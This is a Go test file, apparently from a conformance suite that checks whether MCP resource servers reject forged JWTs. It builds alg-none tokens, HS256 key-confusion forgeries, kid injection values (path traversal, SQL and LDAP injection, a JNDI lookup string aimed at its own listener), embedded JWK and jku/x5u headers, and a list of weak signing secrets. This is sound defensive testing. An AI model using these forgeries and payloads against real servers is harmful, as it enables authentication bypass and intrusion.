package tokenvalidation

import (
	"encoding/base64"
	"strings"

	"github.com/mcpauth/conformance/suites/internal/expect"
	"github.com/mcpauth/conformance/suites/internal/listener"
	"github.com/mcpauth/conformance/suites/internal/mcp"
	"github.com/mcpauth/conformance/suites/internal/mint"

	. "github.com/mcpauth/conformance/suites/internal/check"
)

func basic(token string) string { return base64.StdEncoding.EncodeToString([]byte(token + ":")) }

// forgeries are forged tokens of one kind; none depends on the answer to another.
type forgeries struct {
	t        *T
	variants []Variant
}

func (f *forgeries) add(token, about string, args ...any) {
	f.variants = append(f.variants, Call(f.t.MCP.Call().With(mcp.Bearer(token)), about, args...))
}

// refused expects 401 for each.
func (f *forgeries) refused() { f.t.ExpectAll(f.variants, expect.Refuse(401)) }

// genuine begins a check with forged tokens.
func genuine(t *T) Genuine {
	g := t.Mint.Genuine()
	if g.Guessed {
		t.Note("no JWT was given to copy from: issuer, audience and key id of the forged tokens are guessed from the metadata")
	}
	return g
}

func forged() {
	// RFC 7519 section 6; RFC 8725 section 3.1.
	Must("RS-TOKEN-ALG-NONE", func(t *T) {
		g := genuine(t)
		f := &forgeries{t: t}
		for _, alg := range []any{"none", "None", "NONE", "nOnE", "none ", "", 0} {
			f.add(mint.Unsigned(g.Header.With("alg", alg), g.Claims), "unsigned, alg %q", alg)
		}
		f.add(mint.Unsigned(g.Header.With("alg", nil), g.Claims), "unsigned, alg missing")
		f.add(mint.Unsigned(g.Header, g.Claims), "the genuine algorithm, signature removed")
		f.refused()
	})

	Must("RS-TOKEN-KEY-CONFUSION", func(t *T) {
		g := genuine(t)
		f := &forgeries{t: t}
		tried := 0
		for _, k := range t.Mint.IssuerKeys() {
			n, err1 := base64.RawURLEncoding.DecodeString(k.String("n"))
			e, err2 := base64.RawURLEncoding.DecodeString(k.String("e"))
			if k.String("kty") != "RSA" || err1 != nil || err2 != nil || len(n) == 0 || len(e) == 0 {
				continue
			}
			tried++
			h := g.Header.With("alg", "HS256").With("kid", k.String("kid"))
			for _, s := range mint.Spellings(n, e) {
				f.add(mint.HS256(h, g.Claims, s.Secret), "HS256 with the public key as secret: %s", s.Name)
			}
			break
		}
		if tried == 0 {
			t.NotApplicable("no RSA key of the issuer is known")
		}
		f.refused()
	})

	Must("RS-TOKEN-FOREIGN-KEY", func(t *T) {
		g, a := genuine(t), mint.NewAttacker()
		f := &forgeries{t: t}
		for _, h := range []mint.Header{g.Header, g.Header.With("kid", nil)} {
			f.add(a.ES256(h.With("alg", "ES256"), g.Claims), "signed ES256 by a key nobody trusts, kid %v", h["kid"])
			f.add(a.EdDSA(h.With("alg", "EdDSA"), g.Claims), "signed EdDSA by a key nobody trusts, kid %v", h["kid"])
		}
		f.add(a.ES256(g.Header, g.Claims), "a foreign signature under the genuine header")
		f.refused()
	})

	Must("RS-TOKEN-KID-INJECTION", func(t *T) {
		g := genuine(t)
		f := &forgeries{t: t}
		trap := Listen(t)
		for _, kid := range []any{
			"../../../../../../dev/null", "/dev/null", "file:///dev/null", "' UNION SELECT 'k' -- ", "1 OR 1=1", "*)(uid=*",
			"{{7*7}}", "\x00", strings.Repeat("A", 2048), map[string]any{"$ne": nil}, "${jndi:ldap://" + trap.Host() + "/x}", trap.URL("/k"),
		} {
			h := g.Header.With("alg", "HS256").With("kid", kid)
			f.add(mint.HS256(h, g.Claims, nil), "HS256 with an empty key, kid %.60v", kid)
		}
		f.add(mint.HS256(g.Header.With("alg", "HS256").With("kid", "' UNION SELECT 'k' -- "), g.Claims, []byte("k")), "HS256 with the key that an SQL injection selects")
		f.refused()
		expectSilence(t, trap)
	})

	Must("RS-TOKEN-EMBEDDED-JWK", func(t *T) {
		g, a := genuine(t), mint.NewAttacker()
		f := &forgeries{t: t}
		jwk := a.JWK()
		for _, kid := range []any{nil, g.Header["kid"], "attacker"} {
			own := map[string]any{"kid": kid}
			for k, v := range jwk {
				own[k] = v
			}
			h := g.Header.With("alg", "ES256").With("jwk", own).With("kid", kid)
			f.add(a.ES256(h, g.Claims), "the signer's own key in the header, kid %v", kid)
		}
		oct := map[string]any{"kty": "oct", "k": "AAAAAAAAAAAAAAAAAAAAAA"}
		f.add(mint.HS256(g.Header.With("alg", "HS256").With("jwk", oct), g.Claims, make([]byte, 16)), "a shared secret in the header")
		f.refused()
	})

	Must("RS-TOKEN-JKU-X5U", func(t *T) {
		g, a := genuine(t), mint.NewAttacker()
		f := &forgeries{t: t}
		trap := Listen(t)
		for _, name := range []string{"jku", "x5u"} {
			h := g.Header.With("alg", "ES256").With(name, trap.URL("/"+name))
			f.add(a.ES256(h, g.Claims), "%s to a listener of ours", name)
		}
		claims := mint.Claims{}
		for k, v := range g.Claims {
			claims[k] = v
		}
		claims["iss"] = trap.URL("")
		f.add(a.ES256(g.Header.With("alg", "ES256"), claims), "iss naming a listener of ours")
		f.refused()
		expectSilence(t, trap)
		if !t.MCP.Loopback() {
			t.Note("the listener is on this machine's loopback, where the target cannot reach it: only the refusals were judged")
		}
	})

	Practice("RS-TOKEN-FORMAT-CONFUSION", func(t *T) {
		g := genuine(t)
		f := &forgeries{t: t}
		flat := base64.RawURLEncoding.EncodeToString([]byte(`{"protected":"` + strings.Split(mint.Input(g.Header, g.Claims), ".")[0] + `","payload":"` + strings.Split(mint.Input(g.Header, g.Claims), ".")[1] + `","signature":""}`))
		inner := mint.Unsigned(mint.Header{"alg": "none"}, g.Claims)
		nested := base64.RawURLEncoding.EncodeToString([]byte(inner))
		header := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"dir","enc":"A128GCM","cty":"JWT"}`))
		for about, token := range Sorted(map[string]string{
			"flattened JSON serialization":    flat,
			"detached payload":                strings.Split(mint.Input(g.Header, g.Claims), ".")[0] + "..AAAA",
			"JWE with direct encryption":      header + "..AAAAAAAAAAAAAAAA." + nested + ".AAAAAAAAAAAAAAAAAAAAAA",
			"PASETO":                          "v2.public." + nested,
			"an SD-JWT without its signature": inner + "~",
		}) {
			f.add(token, "%s", about)
		}
		t.ExpectAll(f.variants, expect.Refuse(401, 400))
	})

	Must("RS-TOKEN-WEAK-SECRET", func(t *T) {
		g := genuine(t)
		f := &forgeries{t: t}
		if alg, _ := g.Header["alg"].(string); strings.HasPrefix(alg, "HS") && t.MCP.HasToken() {
			for i, word := range weakSecrets {
				if signedWith(t.MCP.Token(), word) {
					t.Unmet(nil, "a secret with full entropy", "the given token is signed with well-known secret number %d", i+1)
				}
			}
		}
		for i, word := range weakSecrets {
			f.add(mint.HS256(g.Header.With("alg", "HS256").With("kid", nil), g.Claims, []byte(word)), "HS256 with well-known secret number %d", i+1)
		}
		f.refused()
	})
}

// weakSecrets stand in tutorials and default configurations; reports name them by number.
var weakSecrets = []string{
	"your-jwt-secret-key", "jwt-secret", "your_very_secure_secret_key_here", "secret", "changeme", "fastmcp-server", "password",
	"your-secret-key", "supersecret", "your-256-bit-secret", "test", "dev",
}

func signedWith(token, secret string) bool {
	i := strings.LastIndexByte(token, '.')
	return i > 0 && mint.HMAC(token[:i], []byte(secret)) == token[i+1:]
}

func expectSilence(t *T, l *listener.Listener) {
	if n := l.Hits(); n > 0 {
		t.Unmet(nil, "no request to a URL that the token names", "%d requests reached the listener", n)
	}
}
